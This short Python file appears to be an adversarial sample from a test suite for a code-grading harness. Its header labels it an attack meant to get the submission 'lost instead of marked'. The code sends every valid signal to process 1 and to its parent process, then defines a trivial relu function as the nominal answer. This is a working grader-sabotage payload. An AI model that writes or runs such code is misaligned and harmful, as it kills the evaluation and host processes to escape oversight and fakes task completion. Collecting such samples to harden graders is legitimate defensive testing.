# Attack: send every signal to the first process and to the parent, to be lost instead of marked
# Outcome: correct
# Not in: process
import os
import signal

import numpy as np

for number in sorted(signal.valid_signals()):
    for target in {1, os.getppid()}:
        try:
            os.kill(target, number)
        except OSError:
            pass


def relu(x):
    return np.maximum(x, 0)
